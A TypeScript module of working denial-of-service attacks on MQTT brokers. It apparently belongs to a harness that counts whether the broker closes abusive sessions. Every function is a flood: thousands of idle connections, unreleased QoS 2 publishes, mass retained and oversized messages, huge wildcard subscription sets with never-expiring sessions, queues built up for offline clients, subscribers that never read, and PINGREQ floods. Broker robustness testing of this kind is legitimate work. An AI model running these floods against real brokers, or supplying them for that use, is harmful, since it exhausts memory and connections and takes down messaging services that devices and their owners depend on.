import {
  type AttackCounts,
  type AttackTarget,
  connectBytes,
  openRaw,
  openSession,
  packetBytes,
  pause,
  publishBytes,
  type RawConnection,
  subscribeBytes,
  VERSIONS,
  writeAll,
} from './mqtt-attack-socket.ts';

/** Opens many TCP connections that say nothing, and keeps them for `holdMs` where they are let. */
export async function attackIdleConnections(
  target: AttackTarget & { readonly connections?: number; readonly holdMs?: number },
): Promise<AttackCounts> {
  const wanted = target.connections ?? 5000;
  const open: RawConnection[] = [];
  const counts = { opened: 0, failed: 0, closedByBroker: 0 };
  for (let done = 0; done < wanted; done += 50) {
    const batch = await Promise.allSettled(Array.from({ length: 50 }, () => openRaw(target)));
    for (const result of batch) {
      if (result.status === 'fulfilled') open.push(result.value);
      else counts.failed += 1;
    }
  }
  counts.opened = open.length;
  await pause(target.holdMs ?? 1000);
  for (const connection of open) {
    if (connection.isClosed) counts.closedByBroker += 1;
    connection.socket.destroy();
  }
  return counts;
}

/** Publishes with QoS 2 and never releases. */
export async function attackQos2Flood(
  target: AttackTarget & { readonly messages?: number },
): Promise<AttackCounts> {
  const counts = { sessions: 0, sent: 0, closedByBroker: 0 };
  for (const version of VERSIONS) {
    for (let round = 0; round < 10; round++) {
      const session = await openSession(target, connectBytes(`qos2-${version}-${round}`, version));
      if (session === undefined) continue;
      counts.sessions += 1;
      for (let id = 1; id <= (target.messages ?? 5000) && !session.isClosed; id += 50) {
        const packets = Array.from({ length: 50 }, (_, i) =>
          publishBytes('flood/qos2', 'x'.repeat(200), version, { qos: 2, messageId: id + i }),
        );
        counts.sent += 50;
        await writeAll(session, Buffer.concat(packets));
        await pause(0);
      }
      await Promise.race([session.closed, pause(200)]);
      if (session.isClosed) counts.closedByBroker += 1;
      session.socket.destroy();
    }
  }
  return counts;
}

/** Retains a message under each of many topics, then large ones. */
export async function attackRetainedFlood(
  target: AttackTarget & { readonly topics?: number },
): Promise<AttackCounts> {
  const counts = { topics: 0, largeBytes: 0, closedByBroker: 0 };
  const session = await openSession(target, connectBytes('retain-flood', 4));
  if (session === undefined) return counts;
  for (let index = 0; index < (target.topics ?? 20_000) && !session.isClosed; index += 100) {
    const packets = Array.from({ length: 100 }, (_, i) =>
      publishBytes(`flood/retained/${index + i}`, `${target.seed}`, 4, { retain: true }),
    );
    counts.topics += 100;
    await writeAll(session, Buffer.concat(packets));
  }
  for (let index = 0; index < 300 && !session.isClosed; index++) {
    const payload = Buffer.alloc(200_000, index);
    counts.largeBytes += payload.length;
    await writeAll(session, publishBytes(`flood/large/${index}`, payload, 4, { retain: true }));
  }
  await writeAll(session, packetBytes({ cmd: 'pingreq' }, 4));
  await session.waitFor(6, 10_000);
  if (session.isClosed) counts.closedByBroker += 1;
  session.socket.destroy();
  return counts;
}

/** Subscribes to ever more filters, a hundred a packet, on several connections; sessions are kept. */
export async function attackSubscriptionFlood(target: AttackTarget): Promise<AttackCounts> {
  const counts = { filters: 0, granted: 0, refused: 0, closedByBroker: 0 };
  for (const version of VERSIONS) {
    for (let round = 0; round < 10; round++) {
      const clientId = `subs-${version}-${round}`;
      const keep = version === 5 ? { properties: { sessionExpiryInterval: 0xffffffff } } : { clean: false };
      const session = await openSession(target, connectBytes(clientId, version, keep));
      if (session === undefined) continue;
      for (let index = 0; index < 1000 && !session.isClosed; index += 100) {
        const before = session.received().length;
        const filters = Array.from({ length: 100 }, (_, i) => `flood/+/${round}/${index + i}/#`);
        counts.filters += 100;
        await writeAll(session, subscribeBytes(filters, version, 1));
        await session.waitFor(before + 104);
        const codes = session.received().subarray(before + (version === 5 ? 5 : 4));
        for (const code of codes) {
          if (code < 0x80) counts.granted += 1;
          else counts.refused += 1;
        }
      }
      if (session.isClosed) counts.closedByBroker += 1;
      session.socket.destroy();
    }
  }
  return counts;
}

/** Many sessions that stay away while messages pile up for them. */
export async function attackOfflineQueues(
  target: AttackTarget & { readonly sessions?: number; readonly messages?: number },
): Promise<AttackCounts> {
  const counts = { sessions: 0, messages: 0, bytes: 0 };
  for (let index = 0; index < (target.sessions ?? 130); index++) {
    const connect = connectBytes(`away-${index}`, 4, { clean: false });
    const session = await openSession(target, connect);
    if (session === undefined) continue;
    session.socket.write(subscribeBytes(['flood/away/#'], 4, 1));
    await session.waitFor(9);
    session.socket.end(packetBytes({ cmd: 'disconnect' }, 4));
    await Promise.race([session.closed, pause(500)]);
    counts.sessions += 1;
  }
  const sender = await openSession(target, connectBytes('away-sender', 4));
  if (sender === undefined) return counts;
  for (let id = 1; id <= (target.messages ?? 5000) && !sender.isClosed; id++) {
    const payload = Buffer.alloc(id % 10 === 0 ? 20_000 : 100, id);
    counts.messages += 1;
    counts.bytes += payload.length;
    await writeAll(sender, publishBytes('flood/away/x', payload, 4, { qos: 1, messageId: id }));
  }
  await sender.waitFor(4 + 4 * counts.messages, 20_000);
  sender.socket.destroy();
  return counts;
}

/** Subscribers that never read, while large messages are published to what they wanted. */
export async function attackFrozenSubscribers(
  target: AttackTarget & { readonly subscribers?: number; readonly bytes?: number },
): Promise<AttackCounts> {
  const counts = { subscribers: 0, messages: 0, bytes: 0 };
  const frozen: RawConnection[] = [];
  for (let index = 0; index < (target.subscribers ?? 10); index++) {
    const version = index % 2 === 0 ? 4 : 5;
    const session = await openSession(target, connectBytes(`frozen-${index}`, version));
    if (session === undefined) continue;
    session.socket.pause();
    session.socket.write(subscribeBytes(['flood/frozen/#', '#'], version, index % 3 === 0 ? 1 : 0));
    frozen.push(session);
    counts.subscribers += 1;
  }
  await pause(100);
  const sender = await openSession(target, connectBytes('frozen-sender', 4));
  while (sender !== undefined && !sender.isClosed && counts.bytes < (target.bytes ?? 20_000_000)) {
    const payload = Buffer.alloc(counts.messages % 2 === 0 ? 50 : 20_000, counts.messages);
    counts.messages += 1;
    counts.bytes += payload.length;
    await writeAll(sender, publishBytes('flood/frozen/x', payload, 4));
  }
  await pause(1000);
  sender?.socket.destroy();
  for (const session of frozen) session.socket.destroy();
  return counts;
}

/** A flood of PINGREQ and tiny messages from clients that read no answer. */
export async function attackTinyPackets(
  target: AttackTarget & { readonly bytes?: number },
): Promise<AttackCounts> {
  const counts = { connections: 0, bytes: 0 };
  const ping = Buffer.alloc(60_000, packetBytes({ cmd: 'pingreq' }, 4));
  const tiny = Buffer.alloc(60_000, publishBytes('t', '', 4));
  // Messages are worked off even when their sender is gone: 30,000 on each connection are enough.
  const shares = [(target.bytes ?? 60_000_000) / 8, 150_000];
  const flood = async (index: number) => {
    const session = await openSession(target, connectBytes(`tiny-${index}`, 4));
    if (session === undefined) return;
    counts.connections += 1;
    session.socket.pause();
    const until = performance.now() + 2500;
    for (
      let sent = 0;
      sent < (shares[index % 2] ?? 0) && !session.isClosed && performance.now() < until;
      sent += ping.length
    ) {
      counts.bytes += ping.length;
      await Promise.race([writeAll(session, index % 2 === 0 ? ping : tiny), pause(500)]);
    }
    session.socket.destroy();
  };
  await Promise.all(Array.from({ length: 8 }, (_, index) => flood(index)));
  return counts;
}
